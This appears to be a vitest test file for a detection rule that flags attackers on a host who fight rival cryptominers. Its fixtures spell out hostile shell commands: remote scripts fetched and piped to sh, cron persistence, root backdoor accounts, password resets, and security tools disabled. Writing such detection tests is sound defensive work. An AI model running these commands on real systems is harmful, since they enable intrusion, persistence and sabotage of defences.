import * as fc from 'fast-check'
import { describe, expect, it, test } from 'vitest'
import type { Event } from '../../event/event.ts'
import type { Finding } from '../../event/finding.ts'
import { loadIntel } from '../../intel/load.ts'
import { authEvents, authEvent, replay } from '../samples/auth-event.ts'
import { takeover } from './index.ts'
import { typed } from './samples/typed.ts'

const JOB = "(crontab -l; echo '*/5 * * * * curl -fsSL http://203.0.113.7/x.sh | sh') | crontab -"

/** What a command says of a fight, with `crontab -r` beside it so that nothing is passed over as everyday. */
const ACTS: readonly (readonly [command: string, act: string])[] = [
  ['pkill -9 -f kdevtmpfsi', 'killed by name: kdevtmpfsi'],
  ['killall -q -9 minerd sysguard', 'killed by name: minerd, sysguard'],
  ['kill -9 $(pgrep -f xmrig)', 'killed by name: xmrig'],
  ['kill -9 `pidof kinsing`', 'killed by name: kinsing'],
  [
    "ps aux | grep -v grep | grep -E 'xmrig|minerd' | awk '{print $2}' | xargs -r kill -9",
    'killed by name: xmrig, minerd',
  ],
  ["ps aux|awk '/[k]insing/ {print $2}'|xargs kill", 'killed by name: [k]insing'],
  ['for p in $(ps -ef | grep watchbog | cut -c 9-15); do kill -9 $p; done', 'killed by name: watchbog'],
  ["pids=$(ps aux | grep kthrotlds | awk '{print $2}'); kill -9 $pids", 'killed by name: kthrotlds'],
  ['for n in xmrig kinsing; do pkill -9 -f $n; done', 'killed by name: xmrig, kinsing'],
  ['busybox pkill -9 xmrig', 'killed by name: xmrig'],
  ['sudo -n pkill -f /dev/shm/.x/run', 'killed by name: /dev/shm/.x/run'],
  [
    "ps auxf|grep -v grep|grep 'xmr.crypto-pool.fr:3333'|awk '{print $2}'|xargs kill -9",
    'killed by whom they talk to: xmr.crypto-pool.fr:3333',
  ],
  [
    "netstat -anp | grep ':14444' | awk '{print $7}' | cut -d/ -f1 | xargs kill -9",
    'killed by whom they talk to: 14444',
  ],
  [
    "ss -ntp | grep 203.0.113.8:4444 | sed 's/x//' | xargs kill -9",
    'killed by whom they talk to: 203.0.113.8:4444',
  ],
  ['kill -9 $(lsof -t -i:3333)', 'killed by whom they talk to: 3333'],
  [
    "netstat -antp | grep '203.0.113' | awk '{print $7}' | sed 's/x.*//' | xargs kill",
    'killed by whom they talk to: 203.0.113',
  ],
  ['fuser -k 3333/tcp', 'killed by port: 3333'],
  [
    "ps axf -o 'pid %cpu' | awk '{if($2>=40.0) print $1}' | while read p; do kill -9 $p; done",
    'killed by processor load: whatever is busy',
  ],
  [
    "for pid in $(ps axf -o 'pid %cpu' | awk '{if($2>=40.0) print $1}'); do name=$(cat /proc/$pid/cmdline); if [[ $name != *mydaemon* ]]; then kill -9 $pid; fi; done",
    'killed by processor load, sparing mydaemon',
  ],
  ['docker stop $(docker ps -q --filter name=xmr)', 'ended containers: xmr'],
  [
    "ps aux | grep -v mydaemon | awk '{if($3>65.0) print $2}' | xargs kill -9",
    'killed by processor load, sparing mydaemon',
  ],
  [
    "docker ps | grep -E 'xmr|mine' | awk '{print $1}' | xargs -I % docker kill %",
    'ended containers: xmr, mine',
  ],
  [
    "docker images -a | grep pocosow | awk '{print $3}' | xargs -I % docker rmi -f %",
    'removed container images: pocosow',
  ],
  ['docker rm -f xmrig', 'ended containers: xmrig'],
  ['rm -rf /var/spool/cron/*', 'removed all scheduled jobs: /var/spool/cron/*'],
  ['echo > /var/spool/cron/root', 'emptied scheduled jobs: /var/spool/cron/root'],
  ["crontab -l | sed '/203.0.113.9/d' | crontab -", 'took jobs out of the table: 203.0.113.9'],
  ["crontab -l | grep -v 'wget\\|curl' | crontab -", 'took jobs out of the table: wget, curl'],
  ['systemctl stop moneroocean_miner.service', 'stopped services: moneroocean_miner.service'],
  ['service c3pool_miner stop', 'stopped services: c3pool_miner'],
  ['rm -rf /root/.ssh', 'threw out the folder of SSH keys: /root/.ssh'],
  ['rm ~/.ssh/authorized_keys', 'threw out SSH keys: ~/.ssh/authorized_keys'],
  ["sed -i '/curl/d' /var/spool/cron/root", 'took jobs out of the table: curl'],
  ["find / -name 'xmrig*' -exec rm -rf {} \\;", 'removed files of others: xmrig*'],
  ['truncate -s 0 /var/spool/cron/crontabs/root', 'emptied scheduled jobs: /var/spool/cron/crontabs/root'],
  ['echo key | tee /root/.ssh/authorized_keys', 'overwrote SSH keys: /root/.ssh/authorized_keys'],
  ['rm -f /etc/ld.so.preload', 'emptied the list of preloaded libraries: /etc/ld.so.preload'],
  [
    'rm -rf /etc/zzh /etc/newinit.sh /root/c3pool',
    'removed files of others: /etc/zzh, /etc/newinit.sh, /root/c3pool',
  ],
  [
    'touch /tmp/kinsing && chattr +i /tmp/kinsing',
    'occupied places of others with locked files: /tmp/kinsing',
  ],
  [
    'mkdir -p /tmp/kdevtmpfsi; chattr +ia /tmp/kdevtmpfsi',
    'occupied places of others with locked files: /tmp/kdevtmpfsi',
  ],
  ['ln -sf /dev/null /tmp/kdevtmpfsi', 'occupied places of others with locked files: /tmp/kdevtmpfsi'],
  ['iptables -A OUTPUT -p tcp -m multiport --dports 3333,5555 -j DROP', 'shut out pools: 3333, 5555'],
  ['nft add rule inet filter output tcp dport { 3333, 14444 } drop', 'shut out pools: 3333, 14444'],
  ['ufw deny out 3333', 'shut out pools: 3333'],
  ['iptables -I OUTPUT -d pool.supportxmr.com -j REJECT', 'shut out pools: pool.supportxmr.com'],
  [
    "echo '8.8.4.4 pool.supportxmr.com' >> /etc/hosts",
    'sent pools elsewhere by the hosts file: pool.supportxmr.com, 8.8.4.4',
  ],
  [
    "printf '0.0.0.0 pool.supportxmr.com\\n' | tee -a /etc/hosts",
    'sent pools nowhere by the hosts file: pool.supportxmr.com',
  ],
  ["echo 'root:aaaaaaaaaaaa' | chpasswd", 'set passwords: root'],
  ['echo -e "x\\nx" | passwd root', 'set passwords: root'],
  ['useradd -o -u 0 -g 0 -M -d /root sys1', 'added accounts: sys1'],
  ["echo 'sys2:x:0:0::/root:/bin/sh' >> /etc/passwd", 'added accounts: sys2'],
  ['mv /usr/bin/wget /usr/bin/wge', 'renamed tools: /usr/bin/wget'],
  ['chmod -x /usr/bin/curl', 'made tools unusable: /usr/bin/curl'],
  ["echo '#!/bin/sh' > /bin/ps", 'wrapped tools: /bin/ps'],
  ['setenforce 0', 'switched guards off: selinux'],
  ['iptables -F', 'emptied the firewall: firewall'],
  ['systemctl disable --now falcon-sensor', 'switched guards off: falcon-sensor'],
  ['rm -rf /usr/local/aegis', 'removed guards: /usr/local/aegis'],
  ['auditctl -e 0', 'switched guards off: auditd'],
  ['iptables -A INPUT -p tcp --dport 6379 -j DROP', 'shut the door behind: 6379'],
  ['redis-cli config set requirepass abc', 'shut the door behind: redis'],
  ["echo 'ALL: ALL' >> /etc/hosts.deny", 'shut the door behind: /etc/hosts.deny'],
]

const told = (events: readonly Event[]) => replay(takeover, events)
const actsOf = (findings: readonly Finding[]) =>
  findings.flatMap(({ facts }) => (facts.type === 'fight' ? facts.acts.map(({ what }) => what) : []))
const columns = ({ stage, severity }: Finding) => `${stage} ${severity}`

test.each(ACTS)('%s', (command, act) => {
  const [verb = '', targets = ''] = act.split(/: |, (?=sparing)/u)
  const acts = actsOf(told(typed(['crontab -r', command]))).filter((what) => what.startsWith(verb))
  for (const target of targets.split(', ')) expect(acts.join()).toContain(target)
})

const mixed = (a: readonly Event[], b: readonly Event[]) => [...a, ...b].toSorted((x, y) => x.time - y.time)
const login = (session: string, time: number) =>
  authEvent(time, { outcome: 'success', session, srcIp: '203.0.113.50' })
const run = (part: readonly Event[]) => {
  const state = takeover.create('host:web-1')
  for (const event of part) takeover.step(state, event, () => {}, { intel: loadIntel() })
  return state
}

/** The words of a command as the kernel sees them. */
const bare = (event: Event): Event =>
  event.kind === 'process'
    ? { ...event, args: (event.args[2] ?? '').split(' '), commandLine: event.args[2] ?? '' }
    : event

/** The same fight in the shapes that records have. */
const QUOTED = 'pkill xmrig; crontab -r; mv /usr/bin/curl /usr/bin/cd1; curl -s http://203.0.113.7/x.sh | sh'
describe('wrapped', () => {
  it.each([
    ['as a script', QUOTED],
    ['in a shell in a shell', `bash -c "sh -c '${QUOTED}'"`],
    ['by eval', `eval "${QUOTED}"`],
    ['spoken into a shell', `echo "${QUOTED}" | bash`],
    ['in base64', `echo ${Buffer.from(QUOTED).toString('base64')} | base64 -d | sh`],
    ['on the disk of the host', `nsenter -t 1 -m -- sh -c '${QUOTED}'`],
    ['for somebody else', `su - root -c '${QUOTED}'`],
    ['over lines', QUOTED.replaceAll('; ', '\n')],
    ['one after the other', QUOTED.replaceAll('; ', ' && ')],
  ])('%s', (_, command) => expect(told(typed([command])).map(columns)).toEqual(['takeover critical']))

  it('says that something encoded cannot be read', () => {
    const [finding] = told(typed([QUOTED, 'cat /tmp/x | base64 -d | bash']))
    expect(finding?.facts).toMatchObject({
      reasons: expect.arrayContaining(['more was run that was encoded and cannot be read here']),
    })
  })

  it('reads what another sensor saw, where quotes are lost', () => {
    const [like] = typed(['x'])
    if (like === undefined) throw new Error('one event')
    const { time, timeQuality, observer, subjects, origin } = like
    const alert: Event = {
      kind: 'alert',
      time,
      timeQuality,
      observer,
      subjects,
      origin,
      sensor: 'falco',
      rule: 'r',
      title: 't',
      severity: 'low',
      category: null,
      isMining: false,
      srcIp: null,
      srcPort: null,
      dstIp: null,
      dstPort: null,
      domain: null,
      communityId: null,
      user: 'root',
      commandLine: `sh -c ${QUOTED}`,
      count: 1,
    }
    expect(told([alert]).map(columns)).toEqual(['takeover critical'])
  })
})

describe('whose hands', () => {
  const GANG_A = ['pkill kinsing', 'crontab -r', JOB]
  const GANG_B = [
    'pkill -f watchbog',
    'rm -rf /root/.ssh && mkdir /root/.ssh',
    "echo 'root:x0x0x0x0x0x0' | chpasswd",
    'curl -s http://198.51.100.3/y | bash',
  ]
  it('keeps two sessions apart', () => {
    const findings = told(mixed(typed(GANG_A, { session: '11' }), typed(GANG_B, { session: '12', from: 1 })))
    expect(findings.map(columns)).toEqual(['takeover critical', 'takeover critical'])
    expect(
      findings.map(
        ({ facts }) => facts.type === 'fight' && new Set(facts.acts.map(({ session }) => session)).size,
      ),
    ).toEqual([1, 1])
  })

  it('keeps two trees of processes below one service apart', () => {
    const a = typed(GANG_A, { session: null, ppid: 700, pid: 710, uid: 33 })
    const b = typed(GANG_B, { session: null, ppid: 701, pid: 910, uid: 33, from: 1 })
    expect(
      told(
        mixed(
          [...typed(['sh a'], { session: null, ppid: 500, pid: 700, uid: 33, from: -2 }), ...a],
          [...typed(['sh b'], { session: null, ppid: 500, pid: 701, uid: 33, from: -2 }), ...b],
        ),
      ).map(columns),
    ).toEqual(['takeover critical', 'takeover critical'])
  })

  it('takes logins from one address for one', () => {
    const start = Date.UTC(2026, 4, 12, 3) - Date.UTC(2026, 4, 12)
    const at = start / 1000
    const events = [
      login('21', at - 9),
      login('22', at - 8),
      ...typed(['pkill kinsing'], { session: '21' }),
      ...typed(['crontab -r', JOB], { session: '22', from: 4 }),
    ]
    expect(told(events).map(columns)).toEqual(['takeover critical'])
  })

  it('believes an administrator less who came in by guessing', () => {
    const at = (Date.UTC(2026, 4, 12, 3) - Date.UTC(2026, 4, 12)) / 1000
    const guesses = authEvents(20, at - 100, 2)
    const events = [
      ...guesses,
      authEvent(at - 5, { outcome: 'success', session: '7' }),
      ...typed(['pkill xmrig', 'crontab -r', 'passwd root']),
    ]
    expect(told(events).map(columns)).toEqual(['takeover medium'])
    expect(told(events.slice(guesses.length)).map(columns)).toEqual(['context low'])
  })

  it('counts a password that changes right behind a login', () => {
    const at = (Date.UTC(2026, 4, 12, 3) - Date.UTC(2026, 4, 12)) / 1000
    const [finding] = told([
      authEvent(at - 5, { outcome: 'success', session: '7' }),
      ...typed(['pkill xmrig', 'passwd root']),
    ])
    expect(finding?.facts).toMatchObject({
      reasons: expect.arrayContaining(['a password was changed within two minutes of the login']),
    })
  })

  it('takes what two records tell for one', () => {
    const trail = typed(GANG_A)
    const history = trail.map((event): Event => ({
      ...event,
      time: Math.floor(event.time / 1000) * 1000,
      origin: { ...event.origin, source: 'shell-history', file: '.bash_history' },
      ...(event.kind === 'process'
        ? { actor: { ...event.actor, pid: null, ppid: null, session: null } }
        : {}),
    }))
    expect(told(mixed(history, trail)).map(columns)).toEqual(['takeover critical'])
  })

  it('is less sure where nothing says that the programs ended were others’', () => {
    const commands = ['pkill -f app', 'crontab -r', 'curl http://198.51.100.7/deploy.sh | bash']
    expect(told(typed(commands)).map(columns)).toEqual(['takeover high'])
  })

  it('knows what was fetched before when it is started', () => {
    const script = [
      'pkill xmrig',
      'crontab -r',
      'wget -q http://203.0.113.7/k.sh -O /tmp/k.sh',
      'chmod +x /tmp/k.sh',
    ]
    const start = (name: string) => told([...typed(script), ...typed([`sh ${name}`], { from: 20 }).map(bare)])
    expect(start('/tmp/k.sh').map(columns)).toEqual(['takeover critical'])
    expect(start('/srv/other.sh').map(columns)).toEqual(['context low'])
  })

  it('leaves automation at context', () => {
    const [first, ...rest] = typed(
      ['python3 /root/.ansible/tmp/ansible-tmp-1715-99/AnsiballZ_command.py', QUOTED],
      { session: null },
    )
    if (first === undefined) throw new Error('two events')
    const child = rest.map((event) =>
      event.kind === 'process' ? { ...event, actor: { ...event.actor, ppid: 5000 } } : event,
    )
    expect(told([first, ...child]).map(columns)).toEqual(['context low'])
  })

  it('ends a fight after five minutes without an act', () => {
    const findings = told([...typed(['pkill xmrig']), ...typed(['crontab -r'], { from: 400 })])
    expect(findings.map(columns)).toEqual(['context low', 'context low'])
  })

  it('says of a history without times that it tells the order alone', () => {
    const [finding] = told(typed([...GANG_A, 'mv /usr/bin/curl /usr/bin/cur'], { isTimeless: true }))
    expect(finding && columns(finding)).toBe('takeover medium')
    expect(finding?.facts).toMatchObject({ isTimeless: true })
    const far = [
      ...typed(['pkill xmrig'], { isTimeless: true }),
      ...typed([...Array.from({ length: 60 }, () => 'ls'), JOB, 'crontab -r'], { isTimeless: true }),
    ]
    expect(told(far).map(columns)).toEqual(['context low', 'context low'])
  })
})

describe('state', () => {
  it('gives the same from two halves as from the whole', () => {
    const events = typed(['pkill xmrig', 'crontab -r', JOB, 'mv /usr/bin/curl /usr/bin/cur'])
    const findings: Finding[] = []
    const merged = takeover.merge(run(events.slice(0, 2)), run(events.slice(2)))
    takeover.settle?.(merged, (finding) => findings.push(finding), { intel: loadIntel() })
    const whole = told(events)
    expect(findings.map(({ id, severity }) => [id, severity])).toEqual(
      whole.map(({ id, severity }) => [id, severity]),
    )
    expect(actsOf(findings)).toEqual(actsOf(whole))
  })

  it('stays within its bounds', () => {
    const commands = Array.from({ length: 400 }, (_, at) => `pkill -f xmrig${at}; rm -f /tmp/kinsing${at}`)
    const [finding] = told(typed(commands, { everySeconds: 1 }))
    expect(finding?.evidence.length).toBeLessThanOrEqual(20)
    if (finding?.facts.type !== 'fight') throw new Error('a fight')
    expect(finding.facts.acts.length).toBeLessThanOrEqual(64)
    for (const { targets } of finding.facts.acts) expect(targets.length).toBeLessThanOrEqual(50)
    const sessions = Array.from({ length: 600 }, (_, at) =>
      typed(['pkill xmrig'], { session: String(at), from: at / 10 }),
    ).flat()
    const state = takeover.create('host:web-1')
    for (const event of sessions) takeover.step(state, event, () => {}, { intel: loadIntel() })
    expect(state.fights.length).toBeLessThanOrEqual(256)
  })

  it('does not tell a job of every minute a thousand times', () => {
    const jobs = Array.from({ length: 300 }, (_, at) =>
      typed(['pkill xmrig'], { session: `c${at}`, from: at * 600 }),
    ).flat()
    const findings = told(jobs)
    expect(findings.length).toBe(8)
    expect(findings.at(-1)?.count).toBeGreaterThan(200)
  })

  it('takes any text', () => {
    const piece = fc.constantFrom(
      'pkill ',
      'xmrig',
      'kill -9 ',
      '$(',
      ')',
      '|',
      ';',
      "'",
      '"',
      '`',
      'grep ',
      '-v ',
      'crontab ',
      '-r',
      '/etc/hosts ',
      '> ',
      'iptables ',
      '-j DROP ',
      '--dport ',
      'awk ',
      '$2>',
      'docker ',
      'rm ',
      'chattr +i ',
      '/tmp/kinsing ',
      'base64 -d ',
      'sh ',
      '-c ',
      'passwd ',
      '\n',
    )
    fc.assert(
      fc.property(fc.array(fc.oneof(piece, fc.string({ maxLength: 6 })), { maxLength: 40 }), (pieces) => {
        told(typed([pieces.join(''), 'crontab -r']))
      }),
      { seed: 5, numRuns: 300 },
    )
  })
})
